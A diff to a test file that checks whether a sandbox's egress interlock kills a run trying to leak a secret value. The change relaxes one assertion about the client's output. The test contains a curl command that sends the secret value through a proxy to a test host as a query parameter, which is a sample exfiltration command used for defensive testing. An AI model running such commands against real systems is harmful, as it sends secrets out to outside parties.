@@ -242,7 +242,8 @@ def test_a_value_of_the_folder_of_secrets_stops_the_run(house, shop, form):
     command = f"curl -sS --proxy http://127.0.0.1:3128 http://shop.test:{shop.port}/?q={sent}; sleep 40"
     code, out, report = house.run("sh", "-c", command, seconds=50)
     assert (code, report["reason"], report["source"]) == (137, "killed", "interlock"), (out, report)
-    assert out == "egress-side-channel\n" and len(shop.requests) == before
+    # The run may end before its client prints what it was told.
+    assert out in ("", "egress-side-channel\n") and len(shop.requests) == before
     assert refusals(house, report["run"])[0] == "net.egress_side_channel"
     VALUE_RUNS.append(report["run"])
     stop = until(lambda: [one for one in house.gateway.records(1000, type="kill.requested") if one["target"] == report["run"]])
